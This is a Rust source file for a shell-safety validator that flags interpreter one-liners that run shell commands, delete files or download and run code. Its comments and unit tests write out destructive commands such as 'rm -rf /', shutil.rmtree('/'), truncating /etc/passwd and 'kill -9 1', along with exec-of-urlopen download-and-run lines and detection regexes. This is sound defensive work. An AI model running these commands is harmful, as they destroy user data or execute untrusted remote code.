//! Interpreter code rules: the shell dangers, written in Python, Perl, Ruby,
//! Node, PHP, awk, Lua or R and handed over in a `-c`/`-e`/`-r` string, a
//! here-document or a pipe.
//!
//! Why this exists: `python3 -c 'import shutil; shutil.rmtree("/")'`,
//! `perl -e 'system("rm -rf ~")'` or `node -e "require('fs').rmSync(
//! require('os').homedir(), {recursive: true})"` do what `rm -rf` does, but
//! no shell rule sees them. This pass reads the code for the calls that run a
//! shell command, delete files, write files, send signals or fetch code to
//! run, and turns each into the shell line it amounts to (`rm -rf /`,
//! `kill -9 1`, `: > /etc/passwd`). Those lines go back through the whole
//! validator as nested scripts, so they get exactly the judgement the shell
//! form gets; an argument that is computed in the code (a variable, an
//! f-string) becomes `$__value`, which the expansion rules treat as unknown.
//! The reading and translating live in `safety/translate.rs`, which the
//! lowering of commands uses too; this file holds the rules and judges what
//! the translation found.

use crate::safety::rules::kit::{Cx, Out};
use crate::safety::translate::{all_code, translate, Lang};
use crate::safety::types::rule;
use crate::safety::types::Risk::*;
use crate::safety::types::Rule;
use crate::safety::unwrapped::Cmd;
use regex::Regex;
use std::sync::OnceLock;

const CAT: &str = "interpreter";

pub(crate) const SHELL_EXEC: Rule = rule(
    "interp.shell_exec",
    Moderate,
    CAT,
    "interpreter code runs shell commands, which a quick read of the line does not show",
);
pub(crate) const DELETE_FILES: Rule = rule(
    "interp.delete_files",
    Moderate,
    CAT,
    "interpreter code deletes files or folders",
);
pub(crate) const DOWNLOAD_EXEC: Rule = rule(
    "interp.download_exec",
    Critical,
    CAT,
    "interpreter code downloads code from the network and runs it without showing it to you",
);

pub(crate) const COMPUTED_SHELL: Rule = rule(
    "interp.computed_shell",
    High,
    CAT,
    "interpreter code runs a shell command it only builds when it runs (from input, arguments or a variable), so what runs cannot be read here",
);

pub(crate) const RULES: &[Rule] = &[SHELL_EXEC, DELETE_FILES, DOWNLOAD_EXEC, COMPUTED_SHELL];

pub(crate) fn check(c: &Cmd, cx: &Cx, out: &mut Out) {
    for (lang, code, span) in all_code(c, cx.script) {
        let t = translate(lang, &code);
        if t.computed_shell {
            out.add(&COMPUTED_SHELL, span.clone());
        } else if t.shell {
            out.add(&SHELL_EXEC, span.clone());
        }
        if t.deletes {
            out.add(&DELETE_FILES, span.clone());
        }
        // The modules loaded on the command line count (`perl -MLWP::Simple`).
        let all_args = c.arg_texts().collect::<Vec<_>>().join(" ");
        if (fetch().is_match(&code) || fetch().is_match(&all_args))
            && eval_code(lang).is_match(&code)
        {
            out.add(&DOWNLOAD_EXEC, span.clone());
        }
        if lang == Lang::Awk && code.contains("/inet/") && code.contains("getline") {
            out.add(&crate::safety::rules::network::REVERSE_SHELL, span.clone());
        }
        if !matches!(lang, Lang::Awk) && crate::safety::rules::network::is_socket_shell(&code) {
            out.add(&crate::safety::rules::network::SCRIPT_SOCKET_SHELL, span);
        }
    }
}

fn fetch() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(
            r#"(?i)urlopen|urllib|requests\.(get|post)|http\.client|Net::HTTP|open-uri|URI\.open|LWP|HTTP::Tiny|https?\.get|\bfetch\s*\(|require\(\s*['"]https?['"]\s*\)|file_get_contents\s*\(\s*['"]https?:|curl_exec|socket\.http|url\s*\(|download\.file|\bget\s*\(\s*['"]https?:"#,
        )
        .unwrap()
    })
}

fn eval_code(lang: Lang) -> &'static Regex {
    static PY: OnceLock<Regex> = OnceLock::new();
    static OTHER: OnceLock<Regex> = OnceLock::new();
    match lang {
        Lang::Python => PY.get_or_init(|| Regex::new(r"\b(exec|eval|compile)\s*\(").unwrap()),
        _ => OTHER.get_or_init(|| {
            Regex::new(
                r#"\beval\b|instance_eval|new\s+Function|vm\.run|\b(load|loadstring|dofile)\s*\(|\binclude\s*\(|\brequire\s*\(\s*['"]https?:|\bsource\s*\("#,
            )
            .unwrap()
        }),
    }
}

#[cfg(test)]
mod tests {
    use crate::safety::tests::{assert_flags, assert_not_flags};
    use crate::safety::translate::{translate, Lang};

    fn lines(lang: Lang, code: &str) -> Vec<String> {
        translate(lang, code).lines
    }

    #[test]
    fn translations() {
        assert_eq!(
            lines(Lang::Python, "import os; os.system('rm -rf ~')"),
            vec!["rm -rf ~"]
        );
        assert_eq!(
            lines(
                Lang::Python,
                "import subprocess; subprocess.run(['rm', '-rf', '/'])"
            ),
            vec!["rm -rf /"]
        );
        assert_eq!(
            lines(Lang::Python, "import shutil; shutil.rmtree('/')"),
            vec!["rm -rf -- /"]
        );
        assert_eq!(
            lines(
                Lang::Python,
                "import shutil,os; shutil.rmtree(os.path.expanduser('~'))"
            ),
            vec!["rm -rf -- ~"]
        );
        assert_eq!(
            lines(Lang::Python, "import shutil; shutil.rmtree(sys.argv[1])"),
            vec!["rm -rf -- $__value"]
        );
        assert_eq!(
            lines(Lang::Python, "import os; os.kill(1, 9)"),
            vec!["kill -9 -- 1"]
        );
        assert_eq!(
            lines(Lang::Python, "open('/etc/passwd', 'w').write('')"),
            vec![": > /etc/passwd"]
        );
        assert_eq!(lines(Lang::Perl, "system(\"rm -rf /\")"), vec!["rm -rf /"]);
        assert_eq!(lines(Lang::Perl, "`rm -rf ~`"), vec!["rm -rf ~"]);
        assert_eq!(
            lines(Lang::Perl, "use File::Path; rmtree('/etc')"),
            vec!["rm -rf -- /etc"]
        );
        assert_eq!(
            lines(Lang::Ruby, "require 'fileutils'; FileUtils.rm_rf(Dir.home)"),
            vec!["rm -rf -- ~"]
        );
        assert_eq!(
            lines(
                Lang::Node,
                "require('fs').rmSync('/', {recursive: true, force: true})"
            ),
            vec!["rm -rf -- /"]
        );
        assert_eq!(
            lines(Lang::Node, "require('child_process').execSync('rm -rf ~')"),
            vec!["rm -rf ~"]
        );
        assert_eq!(lines(Lang::Php, "system('rm -rf /');"), vec!["rm -rf /"]);
        assert_eq!(
            lines(Lang::Awk, "BEGIN { system(\"rm -rf ~\") }"),
            vec!["rm -rf ~"]
        );
        assert!(lines(Lang::Python, "print('hello')").is_empty());
        assert!(lines(Lang::Node, "console.log(/a/.exec('abc'))").is_empty());
    }

    #[test]
    fn shell_exec() {
        assert_flags(
            "python3 -c 'import os; os.system(\"ls\")'",
            "interp.shell_exec",
        );
        assert_flags("perl -e 'system(\"uptime\")'", "interp.shell_exec");
        assert_flags("ruby -e '`date`'", "interp.shell_exec");
        assert_not_flags("python3 -c 'print(1+1)'", "interp.shell_exec");
        assert_not_flags("perl -pe 's/system/x/g' file", "interp.shell_exec");
    }

    #[test]
    fn delete_files() {
        assert_flags(
            "python3 -c 'import os; os.remove(\"a.txt\")'",
            "interp.delete_files",
        );
        assert_flags(
            "node -e \"require('fs').unlinkSync('x')\"",
            "interp.delete_files",
        );
        assert_not_flags(
            "python3 -c 'import os; print(os.listdir(\".\"))'",
            "interp.delete_files",
        );
    }

    #[test]
    fn computed_shell() {
        assert_flags(
            "python3 -c 'import os; os.system(input())'",
            "interp.computed_shell",
        );
        assert_flags("perl -e 'system($ARGV[0])' x", "interp.computed_shell");
        assert_not_flags(
            "python3 -c 'import os; os.system(\"ls\")'",
            "interp.computed_shell",
        );
    }

    #[test]
    fn download_exec() {
        assert_flags(
            "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://x/a.py').read())\"",
            "interp.download_exec",
        );
        assert_flags(
            "ruby -e \"require 'open-uri'; eval(URI.open('http://x').read)\"",
            "interp.download_exec",
        );
        assert_not_flags(
            "python3 -c \"import urllib.request;print(urllib.request.urlopen('http://x').status)\"",
            "interp.download_exec",
        );
    }
}
